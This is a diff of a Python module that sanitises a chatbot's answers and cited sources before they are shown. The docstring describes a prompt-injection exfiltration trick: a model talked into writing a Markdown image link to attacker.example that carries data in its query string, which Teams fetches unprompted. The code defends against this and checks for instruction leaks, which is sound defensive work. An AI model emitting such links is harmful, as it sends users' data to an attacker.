@@ -1,85 +1,38 @@
-"""What a model wrote, made safe to show: no images, no raw HTML, links only to known places.
+"""What a model wrote, or a source says, made safe to show: no images, no raw HTML, links only to
+known places, personal data restored only where it is read as text.
 
 A model can be talked into writing ``![x](https://attacker.example/p.png?q=<data>)``: Teams would
-fetch the image and hand the data to the attacker without a click. Every answer therefore passes
-``sanitise`` in the answering service, so every door (Teams, the terminal, the API) gets safe text:
+fetch the image and hand the data to the attacker without a click, and a source document can carry the
+same. So everything any door shows (answers, streamed text, cited passages, their headings and titles,
+search results, ``/kilde``) passes ``sanitise``, which parses it as CommonMark and decides every node
+(``bot.llm.safe_markdown``); link hosts are decided as a browser reads the URL (``bot.llm.links``).
 
-- Markdown images (inline and reference style) become their alt text; HTML tags and comments are
-  removed (``<script>``/``<style>`` with their content);
+- images become their alt text; raw HTML is removed (``<script>``/``<style>`` with their content);
 - a link is kept only when it is ``https`` to an allowed host (``AARHUSAI_LINK_HOSTS``; a host also
-  allows its subdomains) or is one of the specialist's own source URLs; any other link shows its label
-  only, and a bare URL is replaced by a note that a link was removed;
-- ``javascript:``, ``data:``, ``file:`` and every other scheme count as not allowed.
-
-Placeholders for personal data are restored after this, and never inside a URL
-(``Redactor.restore_outside_links``).
+  allows its subdomains) or is one of the specialist's own source URLs, and is written with the URL
+  that was checked; any other link shows its words only (a citation marker ``[1]`` stays), and a
+  bare URL or an autolink that is not allowed is replaced by a note that a link was removed;
+- ``restore`` puts personal data back in text nodes only: never in a link target, an image, HTML,
+  code, or a word that looks like part of a URL.
 """
 
 from __future__ import annotations
 
 import re
-from collections.abc import Iterable
-from urllib.parse import urlsplit
 
-_BLOCKS = re.compile(r"(?is)<(script|style|iframe|object|embed|svg|math)\b.*?(?:</\1\s*>|$)")
-_COMMENT = re.compile(r"(?s)<!--.*?(?:-->|$)")
-_IMAGE = re.compile(r"!\[([^\]]*)\]\s*(?:\([^)]*\)?|\[[^\]]*\])")
-_REF_DEF = re.compile(r"(?im)^[ \t]{0,3}\[[^\]]+\]:[ \t]*(\S+).*$")
-_AUTOLINK = re.compile(r"<([a-z][a-z0-9+.-]*:[^>\s]*)>", re.I)
-_TAG = re.compile(r"</?[a-z!?][^>]*(?:>|$)", re.I)
-_LINK = re.compile(r"\[([^\]]*)\]\(\s*<?((?:[^()\s<>]|\([^()\s]*\))*)>?(?:\s+[^)]*)?\)?")
-_BARE = re.compile(r"(?<![\w/])(?:[a-z][a-z0-9+.-]*://|www\.)[^\s)\]>]*", re.I)
-_TRAILING = ".,;:!?'\""
+from bot.llm.links import LinkPolicy
+from bot.llm.safe_markdown import Restore, render_safe
+
+__all__ = ["REMOVED", "InstructionGuard", "LinkPolicy", "leaks_instructions", "sanitise"]
 
 REMOVED = {"da": "(link fjernet)", "en": "(link removed)"}
 
 
-class LinkPolicy:
-    """Which link targets an answer may keep."""
+def sanitise(text: str, policy: LinkPolicy, locale: str = "da", restore: Restore | None = None) -> str:
+    """``text`` as safe Markdown; ``restore`` (placeholders back to values) applied to text nodes only.
 
-    def __init__(self, hosts: Iterable[str] = (), urls: Iterable[str] = ()) -> None:
-        self.hosts = tuple(h.strip().lower().lstrip(".") for h in hosts if h.strip())
-        self.urls = frozenset(u.strip() for u in urls if u.strip())
-
-    def allows(self, url: str) -> bool:
-        if url in self.urls:
-            return True
-        try:
-            parts = urlsplit(url)
-        except ValueError:
-            return False
-        host = (parts.hostname or "").lower()
-        if parts.scheme.lower() != "https" or not host or parts.username or parts.password:
-            return False
-        return any(host == h or host.endswith("." + h) for h in self.hosts)
-
-
-def sanitise(text: str, policy: LinkPolicy, locale: str = "da") -> str:
-    removed = REMOVED.get(locale, REMOVED["da"])
-    text = _BLOCKS.sub("", text)
-    text = _COMMENT.sub("", text)
-    text = _IMAGE.sub(lambda m: m.group(1).strip(), text)
-    text = _REF_DEF.sub(lambda m: m.group(0) if policy.allows(m.group(1)) else "", text)
-    text = _AUTOLINK.sub(lambda m: m.group(1) if policy.allows(m.group(1)) else removed, text)
-    text = _TAG.sub("", text)
-
-    def link(m: re.Match[str]) -> str:
-        label, url = m.group(1), m.group(2)
-        if url and policy.allows(url):
-            return f"[{label}]({url})"
-        return f"[{label}]" if label.isdigit() else label  # keep citation markers like [1]
-
-    text = _LINK.sub(link, text)
-
-    def bare(m: re.Match[str]) -> str:
-        url = m.group(0).rstrip(_TRAILING)
-        tail = m.group(0)[len(url) :]
-        start = m.start()
-        if start >= 2 and text[start - 2 : start] == "](":  # the target of a link kept above
-            return m.group(0)
-        return (url if policy.allows(url) else removed) + tail
-
-    return _BARE.sub(bare, text)
+    Idempotent: a sanitised text sanitised again is unchanged (without ``restore``)."""
+    return render_safe(text, policy, REMOVED.get(locale, REMOVED["da"]), restore)
 
 
 LEAK_WORDS = 12  # this many consecutive words of the instructions in an answer is a leak
